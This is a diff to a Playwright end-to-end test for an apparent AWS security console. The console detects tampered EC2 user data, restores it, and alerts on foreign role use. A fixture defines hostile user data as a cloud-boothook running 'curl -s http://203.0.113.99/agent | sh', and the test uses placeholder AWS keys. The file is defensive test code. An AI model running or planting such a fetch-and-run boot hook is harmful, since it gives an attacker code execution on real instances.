@@ -20,6 +20,7 @@ const GOOD = '#!/bin/sh\nsystemctl enable --now batch\n';
 const HOSTILE = `#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.113.99/agent | sh\n${GOOD}`;
 const OURS = '0aaa0000-0000-4000-8000-00000000f001';
 const THEIRS = '0aaa0000-0000-4000-8000-00000000f002';
+const BY_HAND = '0aaa0000-0000-4000-8000-00000000f003';
 
 test('a redacted alert, the value read from AWS, the verdict, the last good version and the way back', async ({
   browser,
@@ -33,7 +34,16 @@ test('a redacted alert, the value read from AWS, the verdict, the last good vers
   });
   fake.roles.set(ROLE, { externalId: 'larkfield' });
   fake.instances.set(`${ACCOUNT}/eu-west-1/${VICTIM}`, Buffer.from(HOSTILE));
-  const started = await startConsole([], fake.env('AKIASERVEREXAMPLE'));
+  // A profile, as people have them: the SDK finds it in files.
+  const [profile = ''] = await writeFiles(info.outputPath('aws'), {
+    credentials:
+      '[larkfield]\naws_access_key_id = AKIASERVEREXAMPLE\naws_secret_access_key = SERVERSECRETEXAMPLE\n',
+  });
+  const started = await startConsole([], {
+    ...fake.env(),
+    AWS_PROFILE: 'larkfield',
+    AWS_SHARED_CREDENTIALS_FILE: profile,
+  });
   try {
     const storageState = await createFirstAccount(browser, started.setupUrl);
     const context = await browser.newContext({ baseURL: started.url, storageState });
@@ -56,7 +66,7 @@ test('a redacted alert, the value read from AWS, the verdict, the last good vers
     await test.step('the access is tested with one call, a mistake is named, and the settings are saved', async () => {
       await expectAccessible(page);
       await page.getByRole('button', { name: 'Test' }).click();
-      await expect(page.getByText('environment variables of the server')).toBeVisible();
+      await expect(page.getByText('the profile “larkfield” of the server')).toBeVisible();
       await expect(page.getByText('arn:aws:iam::210987654321:user/waymark-server')).toBeVisible();
       expect(fake.calls.map(({ action }) => action)).toEqual(['GetCallerIdentity']);
       await page.getByLabel('Let people read user data from AWS').check();
@@ -86,6 +96,20 @@ test('a redacted alert, the value read from AWS, the verdict, the last good vers
       await expect(dialog).toHaveCount(0);
       await expect(page.getByRole('button', { name: 'Fetch now' })).toBeFocused();
       expect(fake.calls).toHaveLength(before);
+    });
+
+    await test.step('a read that is stopped goes no further, on the server too', async () => {
+      const before = fake.calls.length;
+      fake.fail('AssumeRole', { slowMs: 2000 });
+      await page.getByRole('button', { name: 'Fetch now' }).click();
+      await page.getByRole('button', { name: 'Read it now' }).click();
+      await expect(page.getByText('Asking AWS, for at most 10 s…')).toBeVisible();
+      await expect.poll(() => fake.calls.length).toBe(before + 1);
+      await page.getByRole('button', { name: 'Stop' }).click();
+      await expect(page.getByRole('dialog').getByRole('alert')).toContainText('Stopped.');
+      await page.waitForTimeout(3000);
+      expect(fake.calls.slice(before).map(({ action }) => action)).toEqual(['AssumeRole']);
+      await page.keyboard.press('Escape');
     });
 
     await test.step('what AWS refuses is said in words, in place', async () => {
@@ -142,6 +166,8 @@ test('a redacted alert, the value read from AWS, the verdict, the last good vers
       const records = [
         recordOf(ours, OURS, SESSION, ours.requestId),
         recordOf(ours, THEIRS, OTHER, 'req-of-mallory'),
+        // Whoever takes over the role is seen: the request is none of ours.
+        recordOf(ours, BY_HAND, SESSION, 'req-by-hand'),
       ];
       const files = { 'reads.json': JSON.stringify({ Records: records }) };
       await run('ingest', ...(await writeFiles(info.outputPath('reads'), files)), '--json');
@@ -149,6 +175,7 @@ test('a redacted alert, the value read from AWS, the verdict, the last good vers
       const raised = JSON.parse(await run('alerts', '--rule', RULE, '--json')) as { eventIds: string[] }[];
       const events = raised.flatMap(({ eventIds }) => eventIds);
       expect(events).toContain(THEIRS);
+      expect(events).toContain(BY_HAND);
       expect(events).not.toContain(OURS);
       const stored = JSON.parse(
         await run('events', `eventID: "${OURS}"`, '--from', '2026-01-01', '--json'),
